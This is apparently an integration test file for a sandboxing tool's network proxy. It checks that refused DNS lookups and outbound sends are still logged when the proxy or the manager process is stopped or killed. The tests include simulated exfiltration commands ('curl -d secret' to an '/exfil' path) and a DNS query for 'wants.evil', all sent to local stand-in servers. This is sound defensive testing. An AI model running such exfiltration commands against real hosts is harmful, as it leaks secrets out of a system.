"""What the proxy decided before a call ended is in that call's result, and what passed bytes is in the journal, whoever
is killed meanwhile: real boxes, the real proxy, stopped or killed by us at the worst moment."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from ringfence import Network, Result, Sandbox
from ringfence.audit.journal import Journal
from ringfence.manager.network_pages import network_log
from tests.integration.stage import Place, eventually
from tests.integration.test_networks_of_sandboxes import proxies
from tests.support.outside_world import replace_outside

pytestmark = pytest.mark.req("B5", "X4")

QUERY = b"\0\1\1\0\0\1\0\0\0\0\0\0\5wants\4evil\0\0\1\0\1"
ASK_AND_GO = f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({QUERY!r}, ('127.0.0.53', 53))"
"""Asks for a name that no rule allows, and waits for no answer."""
IN_SHELL = f'python3 -c "{ASK_AND_GO}"'
KINDS = ("shell", "program", "code", "kept shell", "process")


async def call(box: Sandbox, kind: str) -> Result:
    """One call of each kind that ends at once."""
    match kind:
        case "shell":
            return await box.shell(IN_SHELL)
        case "program":
            return await box.exec(["python3", "-c", ASK_AND_GO])
        case "code":
            return await box.python(ASK_AND_GO)
        case "kept shell":
            return await box.shell(IN_SHELL, context="kept")
        case _:
            started = await box.start(IN_SHELL)
            done = await started.wait(30)
            assert done is not None
            return done


@asynccontextmanager
async def stopped_proxy() -> AsyncIterator[None]:
    """The proxy does nothing until somebody lets it."""
    (proxy,) = proxies()
    os.kill(proxy, signal.SIGSTOP)
    try:
        yield
    finally:
        os.kill(proxy, signal.SIGCONT)


async def later(seconds: float) -> None:
    (proxy,) = proxies()
    await asyncio.sleep(seconds)
    os.kill(proxy, signal.SIGCONT)


def wanted(result: Result) -> list[str]:
    return [each.target for each in result.violations if each.target == "wants.evil"]


@pytest.mark.parametrize("kind", KINDS)
def test_a_result_holds_what_was_refused_during_the_call_also_if_nobody_waited_for_an_answer(
    place: Place, kind: str
) -> None:
    async def main() -> tuple[Result, Result]:
        async with Sandbox(place.workspace, network=Network(allow=["api.example.com"])) as box:
            await box.shell("true")
            await box.python("1")
            async with stopped_proxy():  # the call is over before the proxy has read a word of it
                letting = asyncio.ensure_future(later(0.5))
                done = await call(box, kind)
                await letting
            return done, await box.shell("true")

    done, next_one = asyncio.run(main())
    assert wanted(done) == ["wants.evil"]
    assert wanted(next_one) == [] and "too busy" not in "".join(next_one.wall.notes)


def test_a_proxy_that_says_nothing_keeps_no_result_and_what_it_decides_is_in_the_next_one(place: Place) -> None:
    async def main() -> tuple[Result, Result]:
        async with Sandbox(place.workspace, network=Network(allow=["api.example.com"])) as box:
            await box.shell("true")
            async with stopped_proxy():
                done = await asyncio.wait_for(box.shell(IN_SHELL), 30)
            return done, await box.shell("true")

    done, next_one = asyncio.run(main())
    assert done.ok and wanted(done) == []
    assert "too busy to tell" in "".join(next_one.wall.notes)
    assert wanted(next_one) == ["wants.evil"]


def test_a_call_that_is_cancelled_is_recorded_with_what_was_refused_to_it(place: Place) -> None:
    async def main() -> None:
        async with Sandbox(place.workspace, network=Network(allow=["api.example.com"])) as box:
            await box.shell("true")
            async with stopped_proxy():
                running = asyncio.ensure_future(box.shell(f"{IN_SHELL}; touch asked; sleep 60"))
                while not (place.workspace / "asked").exists():
                    await asyncio.sleep(0.02)
                letting = asyncio.ensure_future(later(0.3))
                running.cancel()
                with pytest.raises(asyncio.CancelledError):
                    await running
                await letting

    asyncio.run(main())
    records = [record for record in lines(place) if record.get("event_type") == "sandbox_execution"]
    assert [each["target"] for each in records[-1]["violations"]] == ["wants.evil"]


def lines(place: Place) -> list[dict[str, Any]]:
    return [json.loads(line) for log in place.state.rglob("*.jsonl") for line in log.read_text().splitlines()]


# --- whoever is killed ------------------------------------------------------------------------------------------------


class Slow:
    """A server that takes what it is sent, and answers nothing."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._listener.getsockname()[1])
        self.got = threading.Event()
        self._open: list[socket.socket] = []
        self._thread = threading.Thread(target=self._serve)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                taken, _ = self._listener.accept()
            except OSError:
                return
            self._open.append(taken)
            if taken.recv(65536):
                self.got.set()

    def close(self) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join()
        for each in self._open:
            each.close()


@pytest.fixture
def slow(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Slow]:
    """It is port 80 of every public host, too."""
    made = Slow()
    replace_outside(monkeypatch, tmp_path, {80: made.port})
    yield made
    made.close()


def sent(place: Place) -> list[dict[str, Any]]:
    return [record for record in network_log(place.state) if record.get("verdict") == "allow"]


@pytest.mark.parametrize("kind", ["spliced", "inspected"])
def test_what_was_sent_is_recorded_although_the_proxy_is_killed(place: Place, slow: Slow, kind: str) -> None:
    url = f"http://127.0.0.1:{slow.port}" if kind == "spliced" else "http://api.example.com"
    network = Network(reach=[slow.port], allow=["api.example.com"])

    async def main() -> None:
        async with Sandbox(place.workspace, network=network) as box:
            running = asyncio.ensure_future(box.shell(f"curl -sS -d secret '{url}/exfil?x=1'", timeout=60))
            assert await asyncio.to_thread(slow.got.wait, 20)
            assert sent(place) == []  # it is not over
            (proxy,) = proxies()
            os.kill(proxy, signal.SIGKILL)
            assert not (await running).ok

    asyncio.run(main())
    (record,) = sent(place)
    assert (record["result"], record["error"]) == ("interrupted", "the proxy ended while it was open")
    assert record["port"] == (slow.port if kind == "spliced" else 80)
    assert record.get("path") == (None if kind == "spliced" else "/exfil")


def test_what_is_open_when_its_box_is_closed_is_recorded_with_its_bytes(place: Place, slow: Slow) -> None:
    async def main() -> None:
        async with Sandbox(place.workspace, network=Network(reach=[slow.port])) as box:
            await box.start(f"curl -sS -d secret http://127.0.0.1:{slow.port}/")
            assert await asyncio.to_thread(slow.got.wait, 20)

    asyncio.run(main())
    (record,) = sent(place)
    assert record["result"] == "success" and record["network_bytes_sent"] > len("secret")


MANAGER = """
import asyncio, sys
from ringfence import Network, Sandbox
async def main():
    async with Sandbox(sys.argv[1], network=Network(reach=[int(sys.argv[2])])) as box:
        await box.shell("true")
        print("up", flush=True)
        await box.shell("curl -sS -d secret http://127.0.0.1:" + sys.argv[2], timeout=60)
asyncio.run(main())
"""


def test_what_was_sent_is_recorded_although_the_manager_is_killed(place: Place, slow: Slow) -> None:
    argv = [sys.executable, "-c", MANAGER, str(place.workspace), str(slow.port)]
    with subprocess.Popen(argv, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None and process.stdout.readline() == "up\n"
        assert slow.got.wait(20)
        process.kill()
    journal = Journal(next(place.state.rglob("pending")).parent)
    try:
        assert eventually(lambda: bool(journal.recover()) or len(sent(place)) > 0)
    finally:
        journal.close()
    (record,) = sent(place)
    assert (record["result"], record["port"], record["error"]) == ("interrupted", slow.port, "its writer died")
